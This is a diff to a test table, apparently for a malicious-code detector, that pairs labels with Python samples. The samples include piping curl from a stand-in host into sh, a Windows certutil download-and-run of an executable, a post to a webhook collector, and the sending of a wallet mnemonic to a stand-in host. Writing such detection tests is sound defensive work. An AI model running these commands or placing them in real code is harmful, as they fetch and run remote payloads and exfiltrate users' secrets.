@@ -27,6 +27,16 @@ test.each([
     ['from os import system as s', 'def go(line):', '    s(line)', 'go("curl https://evil.invalid/x | sh")'],
   ],
   [
+    'a message to a collecting place',
+    'drop-contacted',
+    ['import requests', 'requests.post("https://webhook.site/0", json={"ran": 1})'],
+  ],
+  [
+    'a fetching command of Windows',
+    'hostile-command',
+    ['import os', 'os.system("certutil -urlcache -f https://evil.invalid/a.exe a.exe && start a.exe")'],
+  ],
+  [
     'a way out under another name',
     'key-parameter-sent',
     ['import requests as r', 'def sign(mnemonic):', '    r.post("https://evil.invalid", data=mnemonic)'],
